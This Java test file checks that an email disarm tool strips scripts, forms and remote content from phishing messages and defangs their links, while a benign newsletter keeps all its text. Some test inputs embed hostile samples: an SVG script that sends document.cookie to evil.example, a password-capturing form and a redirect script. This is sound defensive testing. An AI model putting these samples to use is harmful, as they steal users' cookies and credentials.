package io.mamori.core.verdict;

import static org.assertj.core.api.Assertions.assertThat;

import io.mamori.core.analysis.Finding;
import io.mamori.core.analysis.FindingCatalogue;
import io.mamori.core.message.Fixtures;
import io.mamori.core.message.MessageParser;
import io.mamori.core.message.MimePart;
import io.mamori.core.message.ParsedMessage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Disarm (メール無害化) of whole messages: real phishing from Jose Nazario's corpus, a Japanese carrier's
 * ISO-2022-JP HTML mail, an ISO-2022-JP phishing mail of our own, and a real commercial newsletter (the negative
 * case: its text must all still be there). Fixtures: {@code messages/disarm/} (sources in the README there).
 */
class DisarmTest {

    private static final MessageRewriter.Plan DISARM = MessageRewriter.Plan.NONE.disarming(false, true);

    @TempDir
    Path temp;

    private byte[] rewrite(byte[] raw, MessageRewriter.Plan plan) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new MessageRewriter(temp).rewrite(new ByteArrayInputStream(raw), out, plan);
        return out.toByteArray();
    }

    private static ParsedMessage parse(byte[] raw) throws IOException {
        ParsedMessage m = new MessageParser().parse(new ByteArrayInputStream(raw));
        m.close();
        return m;
    }

    private static MimePart part(ParsedMessage m, String type) {
        return m.parts().stream().filter(p -> p.contentType().equals(type) && !p.attachment()).findFirst().orElseThrow();
    }

    /** The text a browser shows for an HTML part (entities decoded, white space collapsed). */
    private static String shown(String html) {
        return Jsoup.parse(html).text();
    }

    private static String ascii(byte[] b) {
        return new String(b, StandardCharsets.ISO_8859_1);
    }

    @Test
    void payPalPhishLosesItsScriptFormStylesheetsAndRemoteImagesAndItsLinksCannotBeClicked() throws IOException {
        byte[] disarmed = rewrite(Fixtures.bytes("disarm/nazario-paypal-form.eml"), DISARM);
        ParsedMessage m = parse(disarmed);

        assertThat(m.defects()).isEmpty();
        MimePart html = part(m, "text/html");
        assertThat(html.charset()).isEqualTo("utf-8");
        assertThat(DisarmedHtmlTest.activeContent(html.text())).isEmpty();
        assertThat(html.text()).doesNotContainIgnoringCase("<script").doesNotContainIgnoringCase("<form")
                .doesNotContainIgnoringCase("<input").doesNotContainIgnoringCase("href=")
                .doesNotContainPattern("(?i)<img[^>]+src=\"?https?:").doesNotContainPattern("(?i)\\son[a-z]+=");
        assertThat(shown(html.text())).contains("Please update and verify your information")
                .contains("Log Out [hxxps://www[.]paypal[.]com/cgi-bin/webscr?cmd=_login-run]")
                .contains("[Welcome]")   // the alt text of a removed remote image
                .contains("このメールは安全のため無害化されました").contains("This message was disarmed for your safety");
        assertThat(html.text().indexOf("無害化されました")).as("the notice comes first, Japanese then English")
                .isLessThan(html.text().indexOf("This message was disarmed")).isLessThan(html.text().indexOf("PayPal"));
    }

    @Test
    void everyAlternativeGetsTheNoticeSoTheLastOneAClientShowsHasItToo() throws IOException {
        byte[] raw = ("Subject: hi\r\nMIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=B\r\n\r\n"
                + "--B\r\nContent-Type: text/plain\r\n\r\nplain\r\n"
                + "--B\r\nContent-Type: text/html\r\n\r\n<p>decoy</p>\r\n"
                + "--B\r\nContent-Type: text/html\r\n\r\n<p>REAL</p>\r\n--B--\r\n").getBytes(StandardCharsets.US_ASCII);

        List<MimePart> parts = parse(rewrite(raw, DISARM)).parts();

        assertThat(parts).extracting(MimePart::text).hasSize(3)
                .allSatisfy(t -> assertThat(t).contains("このメールは安全のため無害化されました"));
        String real = parts.get(2).text();
        assertThat(real.indexOf("無害化されました")).isLessThan(real.indexOf("REAL"));
    }

    @Test
    void linkThatShowsOneAddressAndGoesToAnotherNowShowsBoth() throws IOException {
        byte[] raw = Fixtures.bytes("disarm/nazario-ebay-mismatched-link.eml");

        ParsedMessage m = parse(rewrite(raw, DISARM));

        String html = part(m, "text/html").text();
        assertThat(shown(html)).contains("hxxps://signin[.]ebay[.]com/ws/eBayISAPI[.]dll?SignIn [hxxp://xxlplan[.]ovh[.]net/~vizoso/ee]");
        assertThat(html).doesNotContainIgnoringCase("onclick").doesNotContainIgnoringCase("<area");
        assertThat(DisarmedHtmlTest.activeContent(html)).isEmpty();
        // Its attachment is a phishing page too ("MSN - Fax Sheet.html", declared application/octet-stream): it
        // keeps its name and is sanitized the same way, without a notice.
        MimePart file = m.parts().stream().filter(p -> "MSN - Fax Sheet.html".equals(p.filename())).findFirst().orElseThrow();
        assertThat(file.contentType()).isEqualTo("text/html");
        assertThat(file.text()).doesNotContain("【Mamori】");
        assertThat(DisarmedHtmlTest.activeContent(file.text())).isEmpty();
        assertThat(parse(raw).parts().stream().filter(p -> "MSN - Fax Sheet.html".equals(p.filename())).findFirst()
                .orElseThrow().contentType()).isEqualTo("application/octet-stream");
    }

    @Test
    void bankPhishKeepsItsWordingWithoutScriptsOrTrackingImages() throws IOException {
        ParsedMessage m = parse(rewrite(Fixtures.bytes("disarm/nazario-bank-script.eml"), DISARM));

        String html = part(m, "text/html").text();
        assertThat(DisarmedHtmlTest.activeContent(html)).isEmpty();
        assertThat(html).doesNotContain("usbank.com/internetBankingStatic/js").doesNotContain("wamucom_logo_blue.gif");
        assertThat(shown(html)).contains("[wamu[.]com A Washington Mutual, Inc. Web site] [hxxp://www[.]gixxer[.]hu/[.]process-sk/index[.]php?");
    }

    @Test
    void japaneseCarrierHtmlMailKeepsItsTextAndItsInlineImageAndBecomesUtf8() throws IOException {
        byte[] raw = Fixtures.bytes("disarm/jpmobile-docomo-decomail.eml");

        byte[] disarmed = rewrite(raw, DISARM);
        ParsedMessage m = parse(disarmed);

        assertThat(m.defects()).isEmpty();
        MimePart html = part(m, "text/html");
        assertThat(html.charset()).isEqualTo("utf-8");
        assertThat(html.text()).contains("テストです").contains("<img src=\"cid:03&#64;110206.172728&#64;______F03B&#64;docomo.ne.jp\" />")
                .contains("<font color=\"#FF4BFF\">");
        assertThat(part(m, "text/plain").text()).contains("テストです").startsWith("【Mamori】");
        // The inline image travels unchanged, base64 lines and all.
        String imageLines = ascii(raw).substring(ascii(raw).indexOf("R0lGODlhFAAUAHAAACH"), ascii(raw).indexOf("jUppGjyJlqJTpwoAAOw==") + 20);
        assertThat(ascii(disarmed)).contains(imageLines);
        // Headers other than the rewritten parts' Content-* fields are byte for byte the same.
        String header = ascii(raw).substring(0, ascii(raw).indexOf("\n\n") + 1);
        assertThat(ascii(disarmed)).startsWith(header);
    }

    @Test
    void japanesePhishingInIso2022JpIsDisarmedWithEveryCharacterKept() throws IOException {
        ParsedMessage m = parse(rewrite(Fixtures.bytes("disarm/own-iso2022jp-phishing.eml"), DISARM));

        String html = part(m, "text/html").text();
        assertThat(DisarmedHtmlTest.activeContent(html)).isEmpty();
        assertThat(shown(html)).contains("お客様のアカウントは一時的に停止されました。①本人確認のため、こちらからログイン"
                        + " [hxxps://login[.]example-bank[.]co/verify?id=123]してください。")
                .contains("ID: パスワード: 送信").contains("[ロゴ]").contains("株式会社サンプル銀行　お客様サポート")
                .doesNotContain("evil.example").doesNotContain("track.example").doesNotContain("重要なお知らせ");
        assertThat(part(m, "text/plain").text())
                .contains("停止されました。hxxps://login[.]example-bank[.]co/verify?id=123 からログインしてください。");
    }

    @Test
    void shiftJisAndUtf8PartsAreReencodedAsUtf8WithTheirTextIntact() throws IOException {
        String html = "<p>請求書①をご確認ください <a href=\"https://example.co.jp/a\">詳細</a></p>";
        String sjis = new String(html.getBytes("windows-31j"), StandardCharsets.ISO_8859_1);
        String utf8 = new String(("<p>髙橋様 " + html).getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
        byte[] raw = ("From: a@example.net\r\nTo: b@example.co.jp\r\nSubject: s\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: multipart/mixed; boundary=b\r\n\r\n"
                + "--b\r\nContent-Type: text/html; charset=Shift_JIS\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + sjis + "\r\n"
                + "--b\r\nContent-Type: text/html; charset=UTF-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + utf8 + "\r\n"
                + "--b--\r\n").getBytes(StandardCharsets.ISO_8859_1);

        String out = ascii(rewrite(raw, DISARM));
        ParsedMessage m = parse(out.getBytes(StandardCharsets.ISO_8859_1));

        assertThat(m.defects()).isEmpty();
        assertThat(m.parts()).extracting(MimePart::charset).containsExactly("utf-8", "utf-8");
        assertThat(shown(m.parts().get(0).text())).contains("請求書①をご確認ください 詳細 [hxxps://example[.]co[.]jp/a]");
        assertThat(shown(m.parts().get(1).text())).contains("髙橋様 請求書①をご確認ください 詳細 [hxxps://example[.]co[.]jp/a]");
        assertThat(out).doesNotContain("Shift_JIS").contains("Content-Type: text/html; charset=utf-8\r\n"
                + "Content-Transfer-Encoding: base64\r\n");
    }

    @Test
    void htmlToTextReplacesTheHtmlPartWithTextThatShowsWhereLinksLead() throws IOException {
        byte[] raw = Fixtures.bytes("disarm/own-iso2022jp-phishing.eml");

        ParsedMessage m = parse(rewrite(raw, MessageRewriter.Plan.NONE.disarming(true, true)));

        assertThat(m.parts()).extracting(MimePart::contentType).containsExactly("text/plain", "text/plain");
        String converted = m.parts().get(1).text();
        assertThat(converted).startsWith("【Mamori】").contains("HTML 形式の本文はテキストに変換しました")
                .contains("お客様各位\r\n\r\nお客様のアカウントは一時的に停止されました。①本人確認のため、こちらからログイン"
                        + " [hxxps://login[.]example-bank[.]co/verify?id=123]してください。")
                .doesNotContain("<").doesNotContain("document.cookie").doesNotContain("url(");
        assertThat(m.parts().get(0).text()).as("the sender's own text alternative stays, defanged")
                .contains("hxxps://login[.]example-bank[.]co/verify?id=123");
    }

    @Test
    void withoutDefangingLinksStayClickableButActiveContentStillGoes() throws IOException {
        ParsedMessage m = parse(rewrite(Fixtures.bytes("disarm/own-iso2022jp-phishing.eml"),
                MessageRewriter.Plan.NONE.disarming(false, false)));

        String html = part(m, "text/html").text();
        assertThat(html).contains("<a href=\"https://login.example-bank.co/verify?id&#61;123\" rel=\"noopener noreferrer\">")
                .doesNotContainIgnoringCase("<script").doesNotContainIgnoringCase("<form").doesNotContain("track.example")
                .doesNotContain("hxxp");
        assertThat(part(m, "text/plain").text()).contains("https://login.example-bank.co/verify?id=123");
    }

    @Test
    void taggedAndDisarmedMessageGetsThePrefixTheWarningAndThenTheNotice() throws IOException {
        List<FindingCatalogue.Entry> reasons = FindingCatalogue.builtIn().reasons(List.of(Finding.of("LURE_URGENCY", "至急")));

        ParsedMessage m = parse(rewrite(Fixtures.bytes("disarm/own-iso2022jp-phishing.eml"),
                MessageRewriter.Plan.NONE.disarming(false, true).tagging("[要注意]", reasons)));

        assertThat(m.subject()).isEqualTo("[要注意] 重要なお知らせ");
        String plain = part(m, "text/plain").text();
        assertThat(plain).startsWith("【要注意】").contains("至急の対応を迫る文言");
        assertThat(plain.indexOf("【要注意】")).isLessThan(plain.indexOf("【Mamori】このメールは安全のため無害化"));
        String html = part(m, "text/html").text();
        assertThat(html.indexOf("【要注意】")).isPositive().isLessThan(html.indexOf("無害化されました"));
    }

    /** The negative case: a real, benign newsletter with 76 links still shows all of its words. */
    @Test
    void newsletterWithManyLinksStillShowsAllOfItsText() throws IOException {
        byte[] raw = Fixtures.bytes("disarm/mail-gem-provantage-newsletter.eml");
        ParsedMessage original = parse(raw);

        ParsedMessage m = parse(rewrite(raw, DISARM));

        String before = Jsoup.parse(part(original, "text/html").text()).body().text();
        String html = part(m, "text/html").text();
        assertThat(DisarmedHtmlTest.activeContent(html)).isEmpty();
        Matcher links = Pattern.compile(" \\[hxxps?://").matcher(html);
        int defanged = 0;
        while (links.find()) {
            defanged++;
        }
        assertThat(defanged).isGreaterThan(50);
        String after = Jsoup.parse(html).body().text().replace("[.]", ".").replace("hxxp", "http");
        Set<String> missing = new HashSet<>(Arrays.asList(before.split("\\s+")));
        missing.removeAll(Arrays.asList(after.split("[\\s\\[\\]]+")));
        assertThat(missing).as("words of the newsletter that the disarmed copy lost").isEmpty();
        assertThat(after).contains("Holiday Gift Ideas for the Computer Professional!")
                .contains("By Belkin The Belkin Wireless Cable/DSL Gateway Router lets you share files").contains("$908.56");
    }

    @Test
    void urlsInPlainTextBodiesAreDefangedAndAttachmentsAreNot() throws IOException {
        byte[] raw = ("From: a@example.net\r\nTo: b@example.co.jp\r\nSubject: s\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n"
                + "Reset your password at https://login.evil.example/reset or www.evil.example today.\r\n"
                + "--b\r\nContent-Type: text/plain; name=log.txt\r\nContent-Disposition: attachment; filename=log.txt\r\n\r\n"
                + "fetched https://files.example.org/a.txt\r\n--b--\r\n").getBytes(StandardCharsets.US_ASCII);

        String out = ascii(rewrite(raw, DISARM));
        ParsedMessage m = parse(out.getBytes(StandardCharsets.ISO_8859_1));

        assertThat(m.parts().get(0).text()).endsWith("Reset your password at hxxps://login[.]evil[.]example/reset or"
                + " www[.]evil[.]example today.");
        assertThat(out).contains("\r\n\r\nfetched https://files.example.org/a.txt\r\n--b--\r\n");
    }

    @Test
    void htmlAttachmentIsSanitizedWithoutANoticeAndKeepsItsName() throws IOException {
        byte[] raw = ("From: a@example.net\r\nTo: b@example.co.jp\r\nSubject: invoice\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
                + "--b\r\nContent-Type: application/octet-stream; name=\"invoice.html\"\r\n"
                + "Content-Disposition: attachment; filename=\"invoice.html\"\r\n\r\n"
                + "<form action=https://evil.example/p><input type=password name=p>Password</form><script>x()</script>\r\n"
                + "--b--\r\n").getBytes(StandardCharsets.US_ASCII);

        ParsedMessage m = parse(rewrite(raw, DISARM));

        MimePart file = m.parts().get(1);
        assertThat(file.filename()).isEqualTo("invoice.html");
        assertThat(file.contentType()).isEqualTo("text/html");
        assertThat(m.parts().get(0).text()).startsWith("【Mamori】");
    }

    @Test
    void svgAndMhtmlAttachmentsLoseTheirScriptsAsHtmlAttachmentsDo() throws IOException {
        String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>location='https://evil.example/'+document.cookie"
                + "</script><text>Invoice</text></svg>";
        String mht = "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>location='https://evil.example/'</script>";
        byte[] raw = ("From: a@example.net\r\nTo: b@example.co.jp\r\nSubject: invoice\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
                + "--b\r\nContent-Type: image/svg+xml\r\nContent-Disposition: attachment; filename=\"invoice.svg\"\r\n"
                + "Content-Transfer-Encoding: base64\r\n\r\n" + java.util.Base64.getMimeEncoder().encodeToString(
                        svg.getBytes(StandardCharsets.US_ASCII)) + "\r\n"
                + "--b\r\nContent-Type: application/octet-stream; name=\"page.mht\"\r\n"
                + "Content-Disposition: attachment; filename=\"page.mht\"\r\n\r\n" + mht + "\r\n--b--\r\n")
                .getBytes(StandardCharsets.US_ASCII);

        byte[] out = rewrite(raw, DISARM);

        ParsedMessage m = parse(out);
        assertThat(m.parts()).extracting(MimePart::filename).containsExactly(null, "invoice.svg", "page.mht");
        String whole = new String(out, StandardCharsets.ISO_8859_1);
        assertThat(whole).doesNotContain("<script").doesNotContain(java.util.Base64.getMimeEncoder().encodeToString(
                svg.getBytes(StandardCharsets.US_ASCII)).substring(0, 40));
        assertThat(m.parts().subList(1, 3)).extracting(MimePart::contentType).containsOnly("text/html");
        // what is left of each is readable text (not base64), so the absence of script above is meaningful
        assertThat(whole).contains("Invoice").contains("filename=\"page.mht\"");
    }

    @Test
    void everyCorpusMessageCanBeDisarmedIntoValidMimeWithNoActiveHtmlLeft() throws IOException {
        List<String> failures = new java.util.ArrayList<>();
        int messages = 0;
        for (Path f : CorpusFiles.messages()) {
            byte[] raw = java.nio.file.Files.readAllBytes(f);
            byte[] out;
            try {
                out = rewrite(raw, MessageRewriter.Plan.NONE.disarming(false, true));
            } catch (IOException e) {
                failures.add(f + ": " + e);
                continue;
            }
            messages++;
            ParsedMessage before = parse(raw);
            ParsedMessage after = parse(out);
            if (after.defects().size() > before.defects().size()) {
                failures.add(f + ": new defects " + after.defects());
            }
            for (MimePart p : after.parts()) {
                if (p.contentType().equals("text/html") && p.text() != null && !DisarmedHtmlTest.activeContent(p.text()).isEmpty()) {
                    failures.add(f + " part " + p.path() + ": " + DisarmedHtmlTest.activeContent(p.text()));
                }
            }
        }
        assertThat(failures).isEmpty();
        assertThat(messages).isGreaterThan(CorpusFiles.expectedMessages());
    }
}
